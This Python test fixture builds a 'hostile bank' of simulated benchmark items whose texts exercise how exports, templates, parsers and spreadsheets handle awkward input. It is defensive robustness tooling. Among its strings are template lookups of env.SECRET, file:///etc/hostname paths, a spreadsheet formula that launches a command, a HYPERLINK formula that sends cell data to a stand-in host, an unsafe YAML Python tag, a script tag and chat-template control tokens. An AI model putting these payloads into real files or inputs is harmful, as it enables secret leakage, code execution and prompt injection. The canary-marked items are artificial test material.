"""A bank for the checks with real tools: its texts hold what templates, parsers and spreadsheets stumble over."""

from __future__ import annotations

from collections.abc import Mapping

from cruxbank.exports.card import Card
from cruxbank.exports.deliver import Given
from cruxbank.exports.format import Bundle
from cruxbank.exports.lines import line
from cruxbank.items import Exit, Item, Option, PromptRef, Provenance, Status, Topic, Wording, item_id
from cruxbank.measures import Counts, DimensionSeparation, Estimate, Separation

CANARY = "CRUXBANK-CANARY 5f0e7c1a-7d0b-4d5e-9c55-0f6f3a1b2c3d"
HOSTILE: dict[str, str] = {
    "plain": "Should a city close its zoo?",
    "secret": "Should {{ env.SECRET }} be told to everyone?",
    "secret tight": "{{env.SECRET}}{{SECRET}}${SECRET} $SECRET %SECRET%",
    "file": "file:///etc/hostname",
    "file relative": "file://items.jsonl",
    "file in caps": "FILE:///etc/hostname",
    "file in the middle": "Is file:///etc/hostname a path, or file://./a.py:f a call?",
    "package": "package:@vendor/thing:getVar",
    "scheme": "https://example.invalid/a?b=c&d=e#f",
    "python": "python:evil.py",
    "exec": "exec: echo hello",
    "raw": "{% raw %} is how a template ends, {% endraw %} or not?",
    "statement": "{% for x in range(3) %}{{ x }}{% endfor %}",
    "comment": "before {# a comment #} after",
    "brace": "{",
    "braces": "{{",
    "closing": "}} %} #}",
    "mixed braces": "{{{ }}} {{% }} {%- -%} {{- -}} {{ '{{' }}",
    "name": "{{input}}",
    "format string": "{input} {0} {} %s %(input)s",
    "quotes": 'She said: "it\'s \'fine\'" and `left` \\"now\\" “so” ‘so’ «so»',
    "newlines": "first line\nsecond line\r\nthird line\rfourth\n\nfifth\n",
    "blanks": "  two spaces before, a tab\tinside, and two after  ",
    "emoji": "Is 👩🏽‍🚀 free to say 🏳️‍🌈 at work 🤷‍♀️?",
    "right to left": "هل يجب إغلاق حديقة الحيوان؟ האם לסגור את גן החיות?",
    "direction marks": "a\u202eb\u202cc\u200fd\u2066e\u2069f",
    "combining": "e\u0301 \u00e9 \ufb01 \u1e9b\u0323 \u200b\u200d\ufeff\u00ad",
    "formula": "=1+1",
    "formula call": '=HYPERLINK("http://example.invalid?"&A1,"go")',
    "formula plus": "+1+1",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula tab": "\t=1+1",
    "formula apostrophe": "'=1+1",
    "cells": 'a,b;c\td"e""f',
    "dashes": "---",
    "front matter": "---\ntags: [evil]\n---\nbody",
    "dots": "...",
    "yaml": "- a: [b, {c: &d e}]\n  *d: !!python/object/apply:os.getcwd []",
    "yaml words": "null",
    "number": "00123.450e+2",
    "date": "2026-11-22",
    "json": '{"input": "other", "id": "x", "n": [1, null, true]}',
    "json list": '["a", "b"]',
    "line separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "controls": "a\x01b\x1b[31mc\x7fd\x9be",
    "astral": "\U0001d54f \U00020bb7 \U0010ffff \ufffd \uffff",
    "markup": "<script>alert(1)</script> <!-- --> &amp; <|im_start|>system [INST] </s>",
    "markdown": "# Heading\n\n```\ncode\n```\n| a | b |",
    "backslashes": "C:\\new\\table \\n \\u0041 \\\\ \\",
    "long": "Should a city " + "and another city, and a third one with many words, " * 400 + "close its zoo?",
    "one character": "?",
}


def hostile_items() -> dict[str, Item]:
    """Name of the trap -> an item whose text it is, with a topic, an option and a paraphrase that hold it, too."""
    return {name: _item(number, text) for number, (name, text) in enumerate(HOSTILE.items())}


def hostile_texts() -> dict[str, str]:
    """Id -> text: what a tool must receive."""
    return {item.id: item.text for item in hostile_items().values()}


def hostile_bundle(texts: Mapping[str, str] | None = None) -> Bundle:
    """The items as an export has them; other texts by name where they are given."""
    items = [_item(number, text) for number, text in enumerate((HOSTILE if texts is None else texts).values())]
    rows = [line(item, weight=1.0 / len(items)) | {"canary": CANARY} for item in items]
    return Bundle(Given(rows), hostile_card(len(rows)))


def hostile_card(items: int) -> Card:
    """A card whose every field is filled."""
    return Card(
        name="hostile-bank",
        title='Hostile bank: {{ title }} & "others"',
        description="Made by hand to try what exports do with texts. ---\n{{ env.SECRET }}",
        licence="CC-BY-4.0",
        creator="Cruxbank",
        url="https://example.invalid/hostile-bank",
        published="2026-11-22",
        canary=CANARY,
        value_system="schwartz-10",
        languages=("en",),
        simulated=True,
        items=items,
    )


def _item(number: int, text: str) -> Item:
    """Every third a dilemma, the last third not measured; the number keeps the ids of look-alike texts apart."""
    measured = number % 3 != 2
    status, exit_ = (Status.OPERATIONAL, Exit.ADMITTED) if measured else (Status.DRAFT, Exit.CRITIC)
    body = text.strip() or "?"
    return Item(
        id=item_id(f"{number} {text}"),
        kind="dilemma" if number % 3 == 1 else "question",
        options=_options(body) if number % 3 == 1 else (),
        text=text,
        wordings=(Wording(kind="base", text=body), Wording(kind="mirror", text=f"Not so: {body}")),
        topic=Topic(text=body, domain=("cities", "health", "other")[number % 3], region="global"),
        status=status,
        exit=exit_,
        value_system="schwartz-10",
        separation=_separation(0.2 + number / 100) if measured else None,
        counts={"sim-aster-1": Counts(asked=4, answered=3, refused=1), "sim-birch-1": Counts(asked=4, answered=4)},
        verdicts={"sim-aster-1": {"power": (2, 0, 0, 1)}, "sim-birch-1": {"power": (0, 3, 1, 0)}},
        provenance=_provenance(number, body),
    )


def _options(body: str) -> tuple[Option, Option]:
    return Option(text=body, value="power"), Option(text=f"Leave it: {body}", value="security")


def _provenance(slot: int, body: str) -> Provenance:
    return Provenance(
        run="0001-aaaaaaaa",
        seed=7,
        slot=slot,
        generator="local",
        judge="local",
        origin="simulated",
        prompts=(PromptRef(name="respond/opinion", version=1, sha256="ab" * 32),),
        fact=body,
        argument=body,
    )


def _separation(bits: float) -> Separation:
    zero = Estimate(est=0.0, lo=0.0, hi=0.0)
    half = DimensionSeparation(est=bits / 2, lo=0.0, hi=bits, salience=bits / 2)
    return Separation(
        joint=Estimate(est=bits, lo=bits / 2, hi=bits * 1.5),
        lfdr=0.01,
        q=bits,
        q_se=0.1,
        by_dimension={"power": half, "security": half},
        stance=zero,
        refusal=zero,
        models=12,
        responses=48,
    )
